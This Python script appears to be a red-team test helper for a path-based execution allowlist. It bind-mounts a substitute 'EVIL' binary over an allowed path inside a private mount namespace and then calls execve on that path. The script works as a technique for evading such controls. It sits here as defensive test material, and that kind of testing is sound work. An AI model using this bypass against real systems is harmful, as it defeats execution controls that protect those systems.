"""Red team 4 (tests/e2e/test_attack_red4.py): an allowed exact path bind-mounted over in a mount
namespace of the caller's own (root: unshare(CLONE_NEWNS); anyone else with a user namespace
too). The root directory stays the same inode (the root check passes).

Usage: python3 qbe_mntover.py EVIL NAME ARGV0 [ARGV1 ...]
Prints ``MOUNTED``, ``ROOT same|other``, then ``EXEC <errno name>`` on failure.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys

SYS_EXECVE = 59
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000


def main() -> None:
    evil, name, argv = sys.argv[1], sys.argv[2], sys.argv[3:]
    evil = os.path.abspath(evil)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    before = os.stat("/")
    uid, gid = os.geteuid(), os.getegid()
    flags = CLONE_NEWNS | (CLONE_NEWUSER if uid else 0)
    if libc.unshare(flags) != 0:
        print("UNSHARE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    if uid:
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"{uid} {uid} 1")
        with open("/proc/self/gid_map", "w") as f:
            f.write(f"{gid} {gid} 1")
    if libc.mount(b"none", b"/", None, MS_REC | MS_PRIVATE, None) != 0:
        print("PRIVATE", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    if libc.mount(evil.encode(), name.encode(), None, MS_BIND, None) != 0:
        print("MOUNT", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    after = os.stat("/")
    print("MOUNTED", flush=True)
    print("ROOT", "same" if (before.st_dev, before.st_ino) == (after.st_dev, after.st_ino) else "other", flush=True)
    cargv = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
    env = [f"{k}={v}".encode() for k, v in os.environ.items()]
    envp = (ctypes.c_char_p * (len(env) + 1))(*env, None)
    sys.stdout.flush()
    libc.syscall(ctypes.c_long(SYS_EXECVE), name.encode(), cargv, envp)
    print("EXEC", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()), flush=True)


if __name__ == "__main__":
    main()
